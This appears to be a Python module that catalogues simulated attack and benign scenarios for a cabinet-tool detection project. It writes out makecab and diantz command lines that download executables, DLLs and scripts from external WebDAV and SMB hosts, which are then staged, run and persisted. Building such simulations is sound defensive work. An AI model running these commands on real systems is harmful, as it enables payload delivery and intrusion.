"""The scenario catalogue: attack chains and benign packaging jobs, as data.

A scenario is a ``Job``: who runs which cabinet maker from which parent, what it reads (SMB,
WebDAV, local), where the cabinet goes, what follows. ``cabhunt.simulate.chains`` turns a job
into telemetry; ``cabhunt.simulate.truth`` derives its expected findings from the same data,
so the manifest cannot drift from what was generated.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from datetime import datetime, timedelta
from typing import Any

from cabhunt.simulate.activity import SYSTEM32
from cabhunt.simulate.entities import Host
from cabhunt.simulate.fleet import DNS_SUFFIX, Fleet

MAKECAB = f"{SYSTEM32}\\makecab.exe"
DIANTZ = f"{SYSTEM32}\\diantz.exe"
FS = f"FS01.{DNS_SUFFIX}"


@dataclass(slots=True)
class Source:
    """One file the job reads: ``kind`` smb | webdav | local; ``path`` is the file's path on the source."""

    kind: str
    host: str = ""
    ip: str = ""
    port: int = 445
    ssl: bool = False
    share: str = ""
    path: str = ""  # share-relative (smb), URL path (webdav) or local path
    size: int = 0
    content: bytes = b""


@dataclass(slots=True)
class Job:
    name: str
    kind: str  # attack | benign
    verdict: str  # malicious | suspicious | benign | suppressed
    description: str
    target: str  # ws | build | wsus
    maker: str = "makecab"
    image: str = MAKECAB
    original: str | None = None
    parent: str = "cmd"  # cmd | powershell | wscript | mshta | winword | build | iexpress | tiworker | task
    command: str = ""  # makecab command line (argv[0] included)
    sources: list[Source] = field(default_factory=list)
    cab: str = ""
    ddf: tuple[str, str] | None = None  # (windows path, text)
    mapped: tuple[str, str, str] | None = None  # (drive, server, share)
    own_conn: bool = False
    followon: tuple[str, ...] = ()
    allowlist: dict[str, Any] | None = None
    zone_url: str | None = None
    extra_findings: tuple[str, ...] = ()
    campaign: str | None = None  # jobs of one campaign pull the same payload from the same place


def user_dir(host: Host) -> str:
    return f"C:\\Users\\{host.user}"


def is_ip_literal(h: str) -> bool:
    """IPv4 literal or a Windows IPv6 literal name (``2001-db8--1.ipv6-literal.net``)."""
    return (h.replace(".", "").isdigit() and h.count(".") == 3) or h.lower().endswith(".ipv6-literal.net")


def jobs(fleet: Fleet, start: datetime) -> list[tuple[Job, Host]]:
    """The scenario catalogue, each placed on a host (spread over workstations and formats)."""
    ws = fleet.workstations
    out: list[tuple[Job, Host]] = []

    def pick(i: int) -> Host:
        return ws[i % len(ws)]

    def add(job: Job, host: Host) -> None:
        out.append((job, host))

    h = pick(0)
    t = f"{user_dir(h)}\\AppData\\Local\\Temp"
    add(Job("webdav_ssl_makecab", "attack", "malicious",
            "makecab packs a tool pulled over WebDAV/SSL; extracted with expand, run, persisted by schtasks",
            "ws", command=f"makecab.exe \\\\cdn-sync-storage.net@SSL\\DavWWWRoot\\tools\\update.exe {t}\\upd.cab",
            sources=[Source("webdav", "cdn-sync-storage.net", "185.199.110.42", 443, True, "",
                            "/tools/update.exe")],
            cab=f"{t}\\upd.cab", zone_url="https://cdn-sync-storage.net/tools/update.exe",
            followon=("expand", "exec_exe", "schtasks"), campaign="cdn-sync"), h)
    for n, idx in ((2, 5), (3, 9)):
        h = pick(idx)
        t = f"{user_dir(h)}\\AppData\\Local\\Temp"
        add(Job(f"campaign_webdav_spread_{n}", "attack", "malicious",
                "the same WebDAV/SSL tool pull seen on another host (fleet spread of one campaign)",
                "ws", command=f"makecab.exe \\\\cdn-sync-storage.net@SSL\\DavWWWRoot\\tools\\update.exe {t}\\upd.cab",
                sources=[Source("webdav", "cdn-sync-storage.net", "185.199.110.42", 443, True, "",
                                "/tools/update.exe")],
                cab=f"{t}\\upd.cab", zone_url="https://cdn-sync-storage.net/tools/update.exe",
                followon=("expand", "exec_exe"), campaign="cdn-sync"), h)
    h = pick(1)
    add(Job("webdav_port_ip_diantz", "attack", "malicious",
            "diantz reads a DLL from a WebDAV server on an IP literal and port 8080; rundll32 runs it",
            "ws", maker="diantz", image=DIANTZ,
            command="diantz.exe \\\\185.62.190.41@8080\\share\\payload.dll C:\\Users\\Public\\p.cab",
            sources=[Source("webdav", "185.62.190.41", "185.62.190.41", 8080, False, "", "/share/payload.dll")],
            cab="C:\\Users\\Public\\p.cab", zone_url="http://185.62.190.41:8080/share/payload.dll",
            followon=("extrac32", "exec_rundll32", "runkey")), h)
    h = pick(2)
    add(Job("webdav_ssl443_powershell", "attack", "malicious",
            "PowerShell runs makecab on a script from \\\\host@SSL@443, then executes the extracted script",
            "ws", parent="powershell",
            command="\"C:\\Windows\\system32\\makecab.exe\" \\\\files.example-storage.com@SSL@443\\DavWWWRoot\\a\\stage.ps1 "
                    "C:\\ProgramData\\stage.cab",
            sources=[Source("webdav", "files.example-storage.com", "172.67.141.20", 443, True, "", "/a/stage.ps1")],
            cab="C:\\ProgramData\\stage.cab", zone_url="https://files.example-storage.com/a/stage.ps1",
            followon=("expand", "exec_ps")), h)
    h = pick(3)
    peer = ws[(3 + 1) % len(ws)] if len(ws) > 1 else fleet.buildserver
    add(Job("smb_ip_literal_makecab", "attack", "suspicious",
            "makecab copies a binary from another workstation's admin share addressed by raw IP",
            "ws", command=f"makecab \\\\{peer.ip}\\C$\\Windows\\Temp\\svcupd.exe C:\\Users\\Public\\svcupd.cab",
            sources=[Source("smb", peer.ip, peer.ip, 445, False, "C$", "Windows\\Temp\\svcupd.exe")],
            cab="C:\\Users\\Public\\svcupd.cab"), h)
    h = pick(4)
    add(Job("smb_name_fileserver_scratch", "attack", "suspicious",
            "makecab reads psexec from a scratch share on the file server (4624 type 3 / 5140 / 5145 there)",
            "ws", command=f"makecab.exe \\\\{FS}\\scratch\\tools\\psexec.exe {user_dir(h)}\\Downloads\\ps.cab",
            sources=[Source("smb", FS, fleet.fileserver.ip, 445, False, "scratch", "tools\\psexec.exe")],
            cab=f"{user_dir(h)}\\Downloads\\ps.cab"), h)
    h = pick(5)
    t = f"{user_dir(h)}\\AppData\\Local\\Temp"
    names = ("svchost.exe", "config.ini", "stage.ps1")
    ddf = (f"{t}\\build.ddf",
           "; generated\r\n.OPTION EXPLICIT\r\n.Set CabinetNameTemplate=report.cab\r\n"
           f".Set DiskDirectoryTemplate={t}\r\n.Set SourceDir=\\\\files.corp-backup.net\\drop\r\n"
           ".Set Cabinet=on\r\n.Set Compress=on\r\n.Set CompressionType=MSZIP\r\n.Set MaxDiskSize=0\r\n"
           + "".join(f"{n}\r\n" for n in names))
    add(Job("ddf_remote_sourcedir", "attack", "malicious",
            "PowerShell writes a DDF whose SourceDir is an external SMB share and runs makecab /F on it",
            "ws", parent="powershell", command=f"makecab.exe /F {t}\\build.ddf",
            sources=[Source("smb", "files.corp-backup.net", "45.137.21.9", 445, False, "drop", n) for n in names],
            cab=f"{t}\\report.cab", ddf=ddf, followon=("expand", "exec_ps", "service")), h)
    h = pick(6)
    kit = [f"m{i:02d}.dll" for i in range(11)] + ["loader.ps1", "viewer.hta"]
    ddf2 = ("C:\\ProgramData\\x.ddf",
            ".Set CabinetNameTemplate=kit.cab\r\n.Set DiskDirectoryTemplate=C:\\ProgramData\r\n"
            ".Set Compress=on\r\n"
            + "".join(f"\\\\45.61.136.80@SSL\\DavWWWRoot\\kit\\{n}\r\n" for n in kit))
    add(Job("ddf_lowercase_f_bulk_webdav", "attack", "malicious",
            "diantz -f with a DDF listing thirteen files from a WebDAV IP literal over SSL; mshta runs the extracted HTA",
            "ws", maker="diantz", image=DIANTZ, parent="wscript", command="diantz -f C:\\ProgramData\\x.ddf",
            sources=[Source("webdav", "45.61.136.80", "45.61.136.80", 443, True, "", f"/kit/{n}") for n in kit],
            cab="C:\\ProgramData\\kit.cab", ddf=ddf2, followon=("extrac32", "exec_mshta")), h)
    h = pick(7)
    add(Job("define_sourcedir_smb", "attack", "suspicious",
            "makecab /D SourceDir=\\\\nas-old\\pub: a remote source with no UNC in the source argument",
            "ws", command="makecab /D SourceDir=\\\\nas-old.corp.example.com\\pub\\ /D CompressionType=LZX agent.exe "
                          "C:\\Users\\Public\\agent.cab",
            sources=[Source("smb", "nas-old.corp.example.com", "10.20.9.50", 445, False, "pub", "agent.exe")],
            cab="C:\\Users\\Public\\agent.cab"), h)
    h = pick(8)
    add(Job("ads_output", "attack", "malicious",
            "makecab writes the cabinet into an alternate data stream of a text file",
            "ws", command=f"makecab \\\\{FS}\\public\\tool.exe C:\\Users\\Public\\notes.txt:payload.cab",
            sources=[Source("smb", FS, fleet.fileserver.ip, 445, False, "public", "tool.exe")],
            cab="C:\\Users\\Public\\notes.txt:payload.cab"), h)
    h = pick(9)
    add(Job("renamed_makecab", "attack", "malicious",
            "a renamed copy of makecab (OriginalFileName MAKECAB.EXE) outside System32 pulls over WebDAV",
            "ws", image="C:\\Users\\Public\\svc.exe", original="MAKECAB.EXE",
            command="C:\\Users\\Public\\svc.exe \\\\91.243.59.12@SSL\\DavWWWRoot\\x.exe C:\\Users\\Public\\x.cab",
            sources=[Source("webdav", "91.243.59.12", "91.243.59.12", 443, True, "", "/x.exe")],
            cab="C:\\Users\\Public\\x.cab", zone_url="https://91.243.59.12/x.exe"), h)
    h = pick(10)
    add(Job("renamed_diantz_mshta", "attack", "malicious",
            "mshta launches a renamed diantz (OriginalFileName DIANTZ.EXE) reading from an external SMB host",
            "ws", maker="diantz", image=f"{user_dir(h)}\\AppData\\Roaming\\cab.exe", original="DIANTZ.EXE",
            parent="mshta",
            command=f"\"{user_dir(h)}\\AppData\\Roaming\\cab.exe\" \\\\update-mirror.net\\pub\\setup.exe "
                    f"{user_dir(h)}\\AppData\\Roaming\\s.cab",
            sources=[Source("smb", "update-mirror.net", "185.220.101.45", 445, False, "pub", "setup.exe")],
            cab=f"{user_dir(h)}\\AppData\\Roaming\\s.cab", followon=("expand", "exec_exe")), h)
    h = pick(11)
    add(Job("office_parent_makecab", "attack", "malicious",
            "Word spawns makecab reading a script from WebDAV (macro staging)",
            "ws", parent="winword",
            command=f"makecab.exe \\\\docs-preview.com@SSL\\DavWWWRoot\\m\\invoice.ps1 {user_dir(h)}\\AppData\\Local\\Temp\\i.cab",
            sources=[Source("webdav", "docs-preview.com", "104.21.64.7", 443, True, "", "/m/invoice.ps1")],
            cab=f"{user_dir(h)}\\AppData\\Local\\Temp\\i.cab", zone_url="https://docs-preview.com/m/invoice.ps1",
            followon=("expand", "exec_ps", "runkey")), h)
    h = pick(12)
    add(Job("mapped_drive_makecab", "attack", "suspicious",
            "net use X: maps an IT share, then makecab packs X:\\tool.exe",
            "ws", command=f"makecab X:\\tool.exe {user_dir(h)}\\AppData\\Local\\Temp\\t.cab",
            sources=[Source("smb", FS, fleet.fileserver.ip, 445, False, "it-tools", "tool.exe")],
            cab=f"{user_dir(h)}\\AppData\\Local\\Temp\\t.cab", mapped=("X:", FS, "it-tools")), h)
    h = pick(13)
    add(Job("makecab_internal_connection", "attack", "suspicious",
            "makecab itself shows a network connection (EID 3) to an internal host on 445",
            "ws", command="makecab \\\\10.20.5.21\\deploy\\pkg.msi C:\\Users\\Public\\pkg.cab",
            sources=[Source("smb", "10.20.5.21", "10.20.5.21", 445, False, "deploy", "pkg.msi")],
            cab="C:\\Users\\Public\\pkg.cab", own_conn=True), h)
    h = pick(14)
    add(Job("diantz_external_connection", "attack", "malicious",
            "diantz with its own connection to an external SMB server addressed by IP",
            "ws", maker="diantz", image=DIANTZ,
            command="diantz.exe \\\\45.137.21.9\\files\\kit.exe C:\\Users\\Public\\kit.cab",
            sources=[Source("smb", "45.137.21.9", "45.137.21.9", 445, False, "files", "kit.exe")],
            cab="C:\\Users\\Public\\kit.cab", own_conn=True, followon=("expand", "exec_exe", "service")), h)
    h = pick(16)
    add(Job("unc_long_path_makecab", "attack", "suspicious",
            "makecab reads through the \\\\?\\UNC\\ long-path form of a file-server path",
            "ws", command=f"makecab \\\\?\\UNC\\{FS}\\scratch\\drop\\rclone.exe C:\\Users\\Public\\rc.cab",
            sources=[Source("smb", FS, fleet.fileserver.ip, 445, False, "scratch", "drop\\rclone.exe")],
            cab="C:\\Users\\Public\\rc.cab"), h)
    h = pick(17)
    add(Job("forward_slash_unc_makecab", "attack", "suspicious",
            "makecab with a forward-slash UNC path (//host/share/file) to an unknown server",
            "ws", command=f"makecab //files-eu.corp-partner.com/pub/sync.exe {user_dir(h)}\\Downloads\\sync.cab",
            sources=[Source("smb", "files-eu.corp-partner.com", "81.169.145.93", 445, False, "pub", "sync.exe")],
            cab=f"{user_dir(h)}\\Downloads\\sync.cab"), h)
    h = pick(18)
    add(Job("ipv6_literal_makecab", "attack", "suspicious",
            "makecab reads from an IPv6 literal UNC name (fd00-20--50.ipv6-literal.net)",
            "ws", command="makecab \\\\fd00-20--50.ipv6-literal.net\\share\\tool.exe C:\\Users\\Public\\v6.cab",
            sources=[Source("smb", "fd00-20--50.ipv6-literal.net", "fd00:20::50", 445, False, "share", "tool.exe")],
            cab="C:\\Users\\Public\\v6.cab"), h)
    b = fleet.buildserver
    add(Job("allowlisted_swdist_share", "benign", "suppressed",
            "the build server packages the agent from the software distribution share (allowlisted)",
            "build", parent="build",
            command=f"makecab.exe \\\\{FS}\\swdist\\agent\\CorpAgent.msi C:\\build\\release\\CorpAgent.cab",
            sources=[Source("smb", FS, fleet.fileserver.ip, 445, False, "swdist", "agent\\CorpAgent.msi")],
            cab="C:\\build\\release\\CorpAgent.cab",
            allowlist={"id": "AL-0001", "reason": "Nightly agent packaging from the software distribution share",
                       "owner": "it-build@corp.example.com", "valid_from": (start - timedelta(days=90)).isoformat(),
                       "valid_until": (start + timedelta(days=365)).isoformat(),
                       "match": {"host": b.name, "share_prefix": f"\\\\{FS}\\swdist\\"}}), b)
    h = pick(15)
    add(Job("expired_allowlist_legacy_pkg", "benign", "suspicious",
            "a legitimate scheduled inventory job packs from a legacy share whose allowlist entry has expired: "
            "no longer suppressed, it must be reviewed again",
            "ws", parent="task",
            command=f"makecab \\\\{FS}\\legacy-pkg\\inventory\\inv.exe C:\\ProgramData\\Inventory\\inv.cab",
            sources=[Source("smb", FS, fleet.fileserver.ip, 445, False, "legacy-pkg", "inventory\\inv.exe")],
            cab="C:\\ProgramData\\Inventory\\inv.cab",
            allowlist={"id": "AL-0002", "reason": "Legacy inventory packaging (retired with the old agent)",
                       "owner": "desktop-eng@corp.example.com",
                       "valid_from": (start - timedelta(days=400)).isoformat(),
                       "valid_until": (start + timedelta(days=2)).isoformat(),
                       "match": {"share_prefix": f"\\\\{FS}\\legacy-pkg\\"}}), h)
    base = "C:\\build\\PrinterDriver\\pkg"
    drv = ("corpprn.sys", "corpprn.inf", "corpprn.cat")
    add(Job("build_driver_packaging", "benign", "benign",
            "msbuild packages a driver with makecab /F and a local DDF (hardware dashboard submission)",
            "build", parent="build", command=f"makecab /f {base}\\PrinterDriver.ddf",
            sources=[Source("local", path=f"{base}\\x64\\{n}") for n in drv],
            cab=f"{base}\\disk1\\PrinterDriver.cab",
            ddf=(f"{base}\\PrinterDriver.ddf",
                 ".OPTION EXPLICIT\r\n.Set CabinetFileCountThreshold=0\r\n.Set FolderFileCountThreshold=0\r\n"
                 ".Set FolderSizeThreshold=0\r\n.Set MaxCabinetSize=0\r\n.Set MaxDiskFileCount=0\r\n"
                 ".Set MaxDiskSize=0\r\n.Set CompressionType=MSZIP\r\n.Set Cabinet=on\r\n.Set Compress=on\r\n"
                 ".Set CabinetNameTemplate=PrinterDriver.cab\r\n.Set DestinationDir=PrinterDriver\r\n"
                 f".Set DiskDirectoryTemplate={base}\\disk1\r\n"
                 + "".join(f"{base}\\x64\\{n}\r\n" for n in drv))), b)
    add(Job("build_server_webdav_4688", "attack", "malicious",
            "a tampered build step on the build server pulls a tool over WebDAV/SSL (Sysmon EID 1 and 4688)",
            "build", parent="build",
            command="makecab.exe \\\\nuget-mirror-cdn.com@SSL\\DavWWWRoot\\pkgs\\signtool.exe "
                    "C:\\build\\tools\\st.cab",
            sources=[Source("webdav", "nuget-mirror-cdn.com", "104.21.33.190", 443, True, "", "/pkgs/signtool.exe")],
            cab="C:\\build\\tools\\st.cab", zone_url="https://nuget-mirror-cdn.com/pkgs/signtool.exe",
            followon=("expand", "exec_exe")), b)
    sed_tmp = f"C:\\Users\\{b.user}\\AppData\\Local\\Temp\\IXP000.TMP"
    add(Job("iexpress_packaging", "benign", "benign",
            "IExpress builds a self-extracting installer; it runs makecab on its own temporary DDF",
            "build", parent="iexpress", command=f"makecab.exe /f \"{sed_tmp}\\~SED0001.DDF\"",
            sources=[Source("local", path=f"C:\\build\\Installer\\{n}") for n in ("setup.exe", "readme.txt")],
            cab=f"{sed_tmp}\\~SED0001.CAB",
            ddf=(f"{sed_tmp}\\~SED0001.DDF",
                 ".Set CabinetNameTemplate=~SED0001.CAB\r\n.Set CompressionType=MSZIP\r\n.Set Cabinet=ON\r\n"
                 f".Set DiskDirectoryTemplate={sed_tmp}\r\n.Set InfFileName=~SED0001.INF\r\n"
                 '"C:\\build\\Installer\\setup.exe"\r\n"C:\\build\\Installer\\readme.txt"\r\n')), b)
    add(Job("cbs_log_rotation", "benign", "benign",
            "TiWorker compresses a persisted CBS log with makecab (servicing stack housekeeping)",
            "wsus", parent="tiworker", command=""), fleet.wsus)
    return out
